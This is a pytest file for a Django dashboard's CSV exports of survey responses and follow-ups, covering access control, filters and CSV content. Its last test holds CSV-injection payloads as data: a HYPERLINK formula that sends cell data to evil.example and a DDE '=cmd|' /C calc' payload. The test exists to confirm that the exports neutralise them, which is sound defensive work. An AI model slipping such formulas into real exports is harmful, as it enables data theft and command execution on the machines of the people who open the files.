import csv
import io

import pytest
import time_machine
from django.urls import reverse

from tests.factories import (
    FollowUpFactory,
    ResponseFactory,
    RootCauseFactory,
    RoutingRuleFactory,
    SurveyFactory,
    UserFactory,
)

NOW = "2026-11-10 12:00:00+00:00"
EXPORTS = ["dashboard-export-responses", "dashboard-export-follow-ups"]


def _rows(response) -> list[list[str]]:
    assert response.streaming
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def data(team, other_team):
    with time_machine.travel(NOW, tick=False):
        mine = SurveyFactory(name="Delivery")
        theirs = SurveyFactory(name="Billing")
        RoutingRuleFactory(team=team, survey=mine)
        unhappy = ResponseFactory(invitation__survey=mine, score=2, comment='Late, "again"')
        ResponseFactory(invitation__survey=mine, score=10)
        ResponseFactory(invitation__survey=theirs, score=0)
        FollowUpFactory(response=unhappy, team=team, root_cause=RootCauseFactory(name="Late delivery"))
    return mine, theirs


@pytest.mark.django_db
@pytest.mark.parametrize("name", EXPORTS)
def test_export_anonymous_redirects_to_login(client, name):
    response = client.get(reverse(name))
    assert (response.status_code, response["Location"].split("?")[0]) == (302, "/accounts/login/")


@pytest.mark.django_db
@pytest.mark.parametrize("name", EXPORTS)
def test_export_agent_without_team_is_forbidden(client, name):
    client.force_login(UserFactory(team=None))
    assert client.get(reverse(name)).status_code == 403


@pytest.mark.django_db
@pytest.mark.parametrize("name", EXPORTS)
def test_export_bad_filter_is_a_400(client, manager, name):
    client.force_login(manager)
    response = client.get(reverse(name), {"period": "custom", "start": "2026-11-01"})
    assert response.status_code == 400
    assert "Pick the last day of a custom period." in response.content.decode()


@pytest.mark.django_db
@time_machine.travel(NOW, tick=False)
def test_export_responses_streams_every_filtered_response_for_a_manager(client, manager, data):
    client.force_login(manager)
    response = client.get(reverse("dashboard-export-responses"), {"period": "7", "band": "detractor"})
    assert response["Content-Disposition"] == 'attachment; filename="responses-2026-11-04-2026-11-10.csv"'
    rows = _rows(response)
    assert rows[0] == [
        "id",
        "confirmed_at",
        "survey",
        "kind",
        "score",
        "comment",
        "channel",
        "event_type",
        "email",
        "phone",
        "follow_up_status",
    ]
    assert [(row[2], row[4], row[5], row[10]) for row in rows[1:]] == [
        ("Delivery", "2", 'Late, "again"', "new"),
        ("Billing", "0", "", ""),
    ]
    assert rows[1][1] == "2026-11-10T12:00:00+00:00"


@pytest.mark.django_db
@time_machine.travel(NOW, tick=False)
def test_export_responses_agent_gets_their_teams_slice(client, agent, other_agent, data):
    client.force_login(agent)
    assert [row[2] for row in _rows(client.get(reverse("dashboard-export-responses")))[1:]] == ["Delivery", "Delivery"]
    client.force_login(other_agent)
    assert _rows(client.get(reverse("dashboard-export-responses")))[1:] == []


@pytest.mark.django_db
@time_machine.travel(NOW, tick=False)
def test_export_follow_ups_lists_cases_with_root_cause(client, manager, agent, other_agent, data):
    client.force_login(manager)
    rows = _rows(client.get(reverse("dashboard-export-follow-ups")))
    assert rows[0][:8] == ["id", "created_at", "status", "team", "assignee", "due_at", "resolved_at", "root_cause"]
    assert [(row[2], row[3], row[7], row[8], row[9], row[10]) for row in rows[1:]] == [
        ("new", "Care", "Late delivery", "Delivery", "2", 'Late, "again"')
    ]
    client.force_login(agent)
    assert len(_rows(client.get(reverse("dashboard-export-follow-ups")))) == 2
    client.force_login(other_agent)
    assert len(_rows(client.get(reverse("dashboard-export-follow-ups")))) == 1


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.django_db
@time_machine.travel(NOW, tick=False)
@pytest.mark.parametrize("comment", FORMULAS)
def test_exports_neutralise_formulas_in_both_files(client, manager, team, comment):
    survey = SurveyFactory(name="=cmd|' /C calc'!A0")
    answer = ResponseFactory(invitation__survey=survey, score=2, comment=comment)
    FollowUpFactory(response=answer, team=team)
    client.force_login(manager)

    responses = _rows(client.get(reverse("dashboard-export-responses")))
    follow_ups = _rows(client.get(reverse("dashboard-export-follow-ups")))

    assert (responses[1][2], responses[1][4], responses[1][5]) == ("'=cmd|' /C calc'!A0", "2", "'" + comment)
    assert follow_ups[1][10] == "'" + comment
    assert follow_ups[1][8] == "'=cmd|' /C calc'!A0"
